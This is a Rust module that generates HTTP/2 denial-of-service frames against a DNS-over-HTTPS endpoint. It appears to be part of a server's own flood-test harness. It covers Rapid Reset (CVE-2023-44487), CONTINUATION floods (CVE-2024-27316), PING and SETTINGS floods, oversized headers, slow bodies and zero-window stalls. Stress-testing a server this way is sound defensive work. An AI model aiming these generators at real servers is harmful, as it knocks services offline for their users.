//! Frames of HTTP/2 as attackers write them (RFC 9113), with headers that need no dynamic table (RFC 7541).

use crate::flood::random_name;
use crate::wire::{A, TXT, query};

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// What a client begins with, and no setting.
pub fn preface(_: usize) -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, b"")].concat()
}

/// The same with windows of no octets (SETTINGS_INITIAL_WINDOW_SIZE): no body may be sent.
fn preface_without_window() -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat()
}

/// A literal header field without indexing, of short texts.
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).expect("a short text")], text.as_bytes()].concat();
    [&[0][..], &text(name), &text(value)].concat()
}

/// `:method POST`, `:scheme https`, `:path /dns-query`.
fn head() -> Vec<u8> {
    let path = b"/dns-query";
    [&[0x83, 0x87, 0x04, 10][..], path].concat()
}

/// A whole request for `wire`.
fn post(stream: u32, wire: &[u8]) -> Vec<u8> {
    [frame(HEADERS, END_HEADERS, stream, &head()), frame(DATA, END_STREAM, stream, wire)].concat()
}

/// The IDs of `count` streams of a round; that of the greeting is 0.
fn streams(round: u32, count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(move |index| 1 + 2 * (round * count + index))
}

/// Requests that are ended as soon as they are made (CVE-2023-44487).
pub fn rapid_resets(round: u32) -> Vec<u8> {
    let wire = query(&random_name("silent.example"), A);
    let reset = |stream| [post(stream, &wire), frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat();
    streams(round, 300).flat_map(reset).collect()
}

/// More requests for silent names than the server takes at a time.
pub fn many_streams(round: u32) -> Vec<u8> {
    streams(round, 300).flat_map(|stream| post(stream, &query(&random_name("silent.example"), A))).collect()
}

/// Headers that go on and on (CVE-2024-27316).
pub fn continuations(_: u32) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &field("x", &"a".repeat(120)).repeat(100)).repeat(5)
}

/// The beginning of them.
pub fn preface_and_open_headers(number: usize) -> Vec<u8> {
    [preface(number), frame(HEADERS, 0, 1, &head())].concat()
}

/// Requests with headers of more octets than the server reads.
pub fn huge_headers(round: u32) -> Vec<u8> {
    let large = [head(), field("x", &"a".repeat(120)).repeat(130)].concat();
    streams(round, 4).flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &large)).collect()
}

/// Each is to be answered.
pub fn pings(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(3_000)
}

/// Each is to be acknowledged.
pub fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(3_000)
}

/// Frames of no octets, on a stream that does not end.
pub fn empty_data(_: u32) -> Vec<u8> {
    frame(DATA, 0, 1, b"").repeat(5_000)
}

/// As many requests as the server takes at a time, with bodies of which one octet comes at a time.
pub fn preface_and_slow_posts(number: usize) -> Vec<u8> {
    let heads = streams(0, 100).flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &head()));
    preface(number).into_iter().chain(heads).collect()
}

pub fn octet_of_each(_: u32) -> Vec<u8> {
    streams(0, 100).flat_map(|stream| frame(DATA, 0, stream, b"a")).collect()
}

/// A hundred requests for 64 KiB, of which no octet of a body may be sent.
pub fn preface_and_unread_answers(_: usize) -> Vec<u8> {
    let wire = query("hot.big.example", TXT);
    let requests = streams(0, 100).flat_map(|stream| post(stream, &wire));
    preface_without_window().into_iter().chain(requests).collect()
}
